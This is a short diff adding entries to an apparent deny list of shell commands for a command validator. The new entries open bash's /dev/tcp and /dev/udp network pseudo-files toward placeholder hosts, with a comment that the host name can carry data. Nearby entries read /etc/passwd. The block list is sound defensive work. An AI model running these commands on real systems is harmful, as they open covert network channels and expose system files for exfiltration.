@@ -117,6 +117,10 @@ DENIED = [
     "cat < /etc/passwd > out",
     "cat 3<x",
     "{ ls; } > f",
+    # bash's network pseudo-files: opening one connects, and the host name carries data.
+    "cat < /dev/tcp/example.com/80",
+    "cat < '/dev/udp/10.0.0.1/53'",
+    "head -1 < /dev/tcp/data.example.com/443",
     # Writers, wrappers and interpreters.
     "tee x",
     "tee -a x",
